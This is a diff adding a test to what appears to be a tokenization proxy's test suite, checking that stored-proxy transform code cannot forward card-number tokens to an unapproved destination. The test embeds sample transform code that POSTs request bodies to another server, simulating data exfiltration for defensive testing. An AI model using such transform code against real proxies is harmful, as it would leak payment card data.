@@ -9,6 +9,7 @@ import { certificates } from '../kit/certificates.ts'
 import { newDestination } from '../kit/destination.ts'
 import type { TestProxy } from '../kit/proxy.ts'
 import { newProxy } from '../kit/proxy.ts'
+import { reactorCode } from '../kit/reactor.ts'
 import { call, invoke, newApplication, newStoredProxy, proxyError } from '../kit/stored-proxy.ts'
 import { sweep } from '../kit/sweep.ts'
 
@@ -324,6 +325,31 @@ t.test('the destination hears of a bound token by no stored proxy', async (t) =>
   t.match(proxyError(await invoke(proxy, key, { apiKey: null, body: `"{{ ${bound} }}"` })), DENIED)
   t.match(proxyError(await invoke(proxy, plain.key, { body: `"{{ ${bound} }}"` })), DENIED)
   t.equal(destination.requests.length, before)
+})
+
+t.test('code of a stored proxy sends what it was shown where that may go, and nowhere else', async (t) => {
+  const other = await newDestination()
+  t.teardown(() => other.close())
+  const tied = await proxy.token(NUMBER, { destinations: [`localhost:${destination.port}`] })
+  const free = await proxy.token(NUMBER)
+  const code = reactorCode(`
+    const sent = await fetch('${other.url}', { method: 'POST', body: JSON.stringify(req.args.body) })
+      .then((answer) => answer.status, (error) => error.code)
+    return { res: { statusCode: 200, body: { sent } } }`)
+  const stored = await newStoredProxy(proxy, url, { request_transform: { code } })
+  const sent = async (id: string) =>
+    (await invoke(proxy, stored.key, { body: `{"pan":"{{ ${id} }}"}` })).body.toString()
+  t.equal(await sent(tied), '{"sent":"ERR_DESTINATION_FORBIDDEN"}')
+  t.equal(other.attempts, 0)
+  t.equal(await sent(free), '{"sent":200}')
+  const spying = reactorCode(`
+    const sent = await fetch('${other.url}', { method: 'POST', body: JSON.stringify(req.args.body) })
+      .then((answer) => answer.status, (error) => error.code)
+    return { body: { sent } }`)
+  const after = await newStoredProxy(proxy, url, { response_transform: { code: spying } })
+  const echoed = await invoke(proxy, after.key, { body: `{"pan":"{{ ${tied} }}"}` })
+  t.equal(echoed.body.toString(), '{"sent":"ERR_DESTINATION_FORBIDDEN"}', 'nor when the destination has said it again')
+  t.equal(other.requests.length, 1)
 })
 
 const DENIED = { code: 'ERR_DESTINATION_FORBIDDEN', status: 403, forwarded: 'no' }
